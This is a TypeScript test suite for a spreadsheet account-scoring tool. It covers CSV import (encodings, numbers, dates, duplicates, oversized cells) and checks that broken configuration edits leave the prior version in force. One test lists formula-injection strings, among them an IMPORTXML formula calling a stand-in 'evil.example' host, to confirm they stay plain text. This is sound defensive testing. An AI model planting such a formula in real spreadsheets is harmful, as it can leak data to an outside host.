import type { Workspace } from '../../scripts/local/run/workspace';
import { buildProduct, everything, type Files, type Named, records, runNow, setUpProduct, tab, type } from './product';

let dist: string;
beforeAll(async () => {
  dist = await buildProduct();
});

const GOOD = 'account_id,name,mrr\nA,Alpha,1000\nB,Beta,2000\n';

const ran = (files: Files): Workspace => {
  const workspace = setUpProduct(dist, files);
  runNow(workspace);
  return workspace;
};
const problems = (workspace: Workspace, source: string): readonly Named[] =>
  records(workspace, 'Problems').filter((problem) => problem.Source === source);
const lastRun = (workspace: Workspace) => records(workspace, 'Runs').slice(-1)[0];
const names = (workspace: Workspace) =>
  records(workspace, 'Accounts').map((record) => [record['Account ID'], record['Account Name']]);
const mrr = (workspace: Workspace, id: string) =>
  records(workspace, 'Accounts').find((record) => record['Account ID'] === id)?.MRR;

describe('files from outside', () => {
  it.each([
    ['an empty file', ''],
    ['a blank file', '\n\n'],
    ['a header alone', 'account_id,date,logins\n'],
  ])('%s is named, and the other sources go on', (_, usage) => {
    const workspace = ran({ accounts: GOOD, usage });
    expect(problems(workspace, 'usage.csv')).toHaveLength(1);
    expect(names(workspace)).toEqual([
      ['A', 'Alpha'],
      ['B', 'Beta'],
    ]);
  });

  it('a file without the column that names the account is refused, and says which columns it has', () => {
    const workspace = ran({ accounts: GOOD, usage: 'foo,bar\n1,2\n' });
    const [problem] = problems(workspace, 'usage.csv');
    expect(problem).toMatchObject({ Severity: 'error' });
    expect(problem?.['Mend Note']).toMatch(/foo/);
  });

  it('ids that stand twice are named; the last row counts', () => {
    const workspace = ran({ accounts: `${GOOD}A,Alpha again,1500\n` });
    expect(names(workspace)[0]).toEqual(['A', 'Alpha again']);
    expect(problems(workspace, 'accounts.csv')).toEqual([
      expect.objectContaining({ Place: 'row 4', 'Found Text': 'A' }),
    ]);
  });

  it.each([
    ['Shift_JIS', Buffer.from([0x8a, 0x94, 0x8e, 0xae, 0x89, 0xef, 0x8e, 0xd0])],
    ['UTF-8', Buffer.from('株式会社')],
  ])('%s is read', (_, name) => {
    const bytes = Buffer.concat([Buffer.from('account_id,name\r\nA,'), name, Buffer.from('\r\n')]);
    expect(names(ran({ accounts: new Uint8Array(bytes) }))).toEqual([['A', '株式会社']]);
  });

  it.each([
    [
      'UTF-8 with a mark',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('account_id,name\nA,株式会社\n')]),
    ],
    ['UTF-16 LE', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('account_id,name\nA,株式会社\n', 'utf16le')])],
    [
      'UTF-16 BE',
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('account_id,name\nA,株式会社\n', 'utf16le').swap16()]),
    ],
  ])('%s is read by its mark', (_, bytes) => {
    expect(names(ran({ accounts: new Uint8Array(bytes) }))).toEqual([['A', '株式会社']]);
  });

  it('line ends of any kind, quoted commas, quotes and line breaks are read', () => {
    const workspace = ran({ accounts: 'account_id,name\r\nA,"Alpha, ""the"" first\r\nof all"\r\n' });
    expect(names(workspace)[0]?.[1]).toBe('Alpha, "the" first\r\nof all');
  });

  it.each([
    ['"12,345"', 12345],
    ['１２３', 123],
    ['"¥1,200"', 1200],
    ['0', 0],
    ['-5', -5],
  ])('%s is the number %d', (text, value) => {
    expect(mrr(ran({ accounts: `account_id,mrr\nA,${text}\n` }), 'A')).toBe(value);
  });

  it.each(['N/A', '', '-', 'null'])('“%s” is no value, not a zero, and no problem', (text) => {
    const workspace = ran({ accounts: `account_id,name,mrr\nA,Alpha,${text}\n` });
    expect(mrr(workspace, 'A')).toBeNull();
    expect(problems(workspace, 'accounts.csv')).toEqual([]);
  });

  it.each(['1e400', 'many', '1.2.3'])(
    '%s is named by row and column and stays out; the rest of the row stays',
    (text) => {
      const workspace = ran({ accounts: `account_id,name,mrr\nA,Alpha,${text}\n` });
      expect(names(workspace)).toEqual([['A', 'Alpha']]);
      expect(mrr(workspace, 'A')).toBeNull();
      expect(problems(workspace, 'accounts.csv')).toEqual([
        expect.objectContaining({ Place: 'row 2', Column: 'mrr', 'Found Text': text }),
      ]);
    },
  );

  it.each([
    ['2026/1/5', '2026-01-05'],
    ['2026-01-05', '2026-01-05'],
    ['1/5/2026', '2026-01-05'],
    ['2026年1月5日', '2026-01-05'],
    ['2026-01-04T20:00:00Z', '2026-01-05'],
  ])('%s is a day, by the workbook’s locale and zone', (text, day) => {
    const workspace = ran({ accounts: `account_id,renewal_date\nA,${text}\n` });
    expect(records(workspace, 'Accounts')[0]?.['Renewal Date']).toBe(day);
  });

  it.each(['2026-02-31', 'soon'])('%s is no day: named, and left empty', (text) => {
    const workspace = ran({ accounts: `account_id,renewal_date\nA,${text}\n` });
    expect(records(workspace, 'Accounts')[0]?.['Renewal Date']).toBeNull();
    expect(problems(workspace, 'accounts.csv')).toEqual([
      expect.objectContaining({ Place: 'row 2', Column: 'renewal_date', 'Found Text': text }),
    ]);
  });

  it('a cell beyond what a sheet can hold stays out, with its row named, and the rest goes on', () => {
    const workspace = ran({ accounts: `account_id,name\nA,${'x'.repeat(5_000_000)}\nB,Beta\n` });
    expect(names(workspace)).toContainEqual(['B', 'Beta']);
    const [problem] = problems(workspace, 'accounts.csv');
    expect(problem).toMatchObject({ Place: 'row 2', Column: 'name' });
    expect(String(problem?.['Found Text']).length).toBeLessThanOrEqual(200);
  });

  it.each(['=IMPORTXML("https://evil.example","//a")', '+1', '-1+2', '@x', "'quoted", '007', '3/4', 'TRUE', '1e3'])(
    'the text %s stays that text in every tab and never becomes a formula',
    (text) => {
      const workspace = ran({ accounts: `account_id,name\nA,"${text.replace(/"/g, '""')}"\n` });
      expect(names(workspace)).toEqual([['A', text]]);
      const stored = records(workspace, 'CRM Accounts')[0];
      expect(stored?.name).toBe(text);
      const sheets = [...workspace.health().sheets, ...(workspace.data()?.sheets ?? [])];
      expect(sheets.filter((sheet) => !sheet.formulas.empty).map((sheet) => sheet.name)).toEqual([]);
    },
  );

  it('an account in usage that the CRM lacks is named, an account without usage too', () => {
    const workspace = ran({ accounts: GOOD, usage: 'account_id,date,logins\nA,2026-03-30,4\nGhost,2026-03-30,9\n' });
    const found = problems(workspace, 'Usage').map((problem) => problem['Found Text']);
    expect(found).toEqual(expect.arrayContaining(['Ghost', 'B']));
    expect(names(workspace).map(([id]) => id)).toEqual(['A', 'B']);
  });

  it('unknown columns are kept and can feed a metric', () => {
    const workspace = setUpProduct(dist, { accounts: 'account_id,name,happiness\nA,Alpha,80\nB,Beta,10\n' });
    const sheet = tab(workspace, 'Metrics');
    const header = sheet.values.map((column) => column[0]);
    const put = (name: string, value: string | number | boolean) => {
      const cells = sheet.values[header.indexOf(name)];
      if (!cells) throw new Error(name);
      cells[1] = value;
    };
    const values: [string, string | number | boolean][] = [
      ['Metric ID', 'happiness'],
      ['Name', 'Happiness'],
      ['Dataset', 'accounts'],
      ['Aggregate', 'last'],
      ['Field', 'happiness'],
      ['Compare', 'none'],
      ['Missing', 'exclude'],
      ['Weight', 100],
      ['Points', '0=0; 100=100'],
      ['Enabled', true],
    ];
    for (const [name, value] of values) put(name, value);
    for (const name of ['Filter', 'Window Days', 'Missing Days', 'Fresh Days']) put(name, '');
    type(workspace, 'Settings', 'Minimum Coverage Percent', 'Value', 0);
    runNow(workspace);
    const line = records(workspace, 'Breakdown').find((row) => row['Breakdown ID'] === 'A|happiness');
    expect(line).toMatchObject({ Reading: 80, 'Metric Score': 80 });
  });
});

describe('what was published is never lost', () => {
  const break_ = (workspace: Workspace, key: string, header: string, value: string | number) => {
    const [first] = records(workspace, 'Metrics');
    type(workspace, 'Metrics', key === '' ? String(first?.['Metric ID']) : key, header, value);
  };

  it.each([
    ['a word for a weight', 'Weight', 'heavy'],
    ['a negative weight', 'Weight', -1],
    ['a curve that is none', 'Points', 'steep'],
    ['a dimension nobody declared', 'Dimension', 'Luck'],
    ['a filter that does not parse', 'Filter', "kind = 'x' and"],
  ])('%s is named by its cell, and the version before stays in force', (_, header, value) => {
    const workspace = ran({ accounts: GOOD });
    const version = records(workspace, 'Accounts')[0]?.['Config Version'];
    break_(workspace, '', header, value);
    runNow(workspace);
    const found = problems(workspace, 'Metrics').filter((problem) => problem.Severity === 'error');
    expect(found.length).toBeGreaterThan(0);
    expect(found[0]).toMatchObject({ Place: expect.stringMatching(/^[A-Z]+2$/), Column: header });
    expect(records(workspace, 'Accounts')[0]?.['Config Version']).toBe(version);
    expect(lastRun(workspace)?.State).toBe('done');
  });

  it('a configuration tab that is gone is named, and scores go on under the version before', () => {
    const workspace = ran({ accounts: GOOD });
    const health = workspace.health();
    health.sheets.splice(health.sheets.indexOf(tab(workspace, 'Segments')), 1);
    runNow(workspace);
    expect(problems(workspace, 'Segments')).toEqual([expect.objectContaining({ Severity: 'error' })]);
    expect(lastRun(workspace)?.State).toBe('done');
  });

  it('a renamed header is named with the name it should have', () => {
    const workspace = ran({ accounts: GOOD });
    const sheet = tab(workspace, 'Bands');
    const column = sheet.values.findIndex((cells) => cells[0] === 'Lower Bound');
    (sheet.values[column] as unknown[])[0] = 'Minimum';
    runNow(workspace);
    const [problem] = problems(workspace, 'Bands');
    expect(problem?.['Mend Note']).toMatch(/Lower Bound/);
    expect(records(workspace, 'Accounts')).toHaveLength(2);
  });

  it('a source that fails keeps the data it brought, and says since when', () => {
    const workspace = ran({ accounts: GOOD, usage: 'account_id,date,logins\nA,2026-03-30,4\n' });
    const before = everything(workspace).Usage;
    type(workspace, 'Sources', 'usage.csv', 'Location', 'https://drive.google.com/file/d/not-there/view');
    runNow(workspace);
    expect(everything(workspace).Usage).toEqual(before);
    expect(problems(workspace, 'usage.csv')).toEqual([expect.objectContaining({ Severity: 'error' })]);
    expect(lastRun(workspace)?.State).toBe('done');
  });

  it('a problem that is solved disappears with the next run', () => {
    const workspace = ran({ accounts: GOOD, usage: 'account_id,date,logins\nA,soon,4\n' });
    expect(problems(workspace, 'usage.csv').length).toBeGreaterThan(0);
    type(workspace, 'Sources', 'usage.csv', 'Enabled', false);
    runNow(workspace);
    expect(problems(workspace, 'usage.csv')).toEqual([]);
  });
});
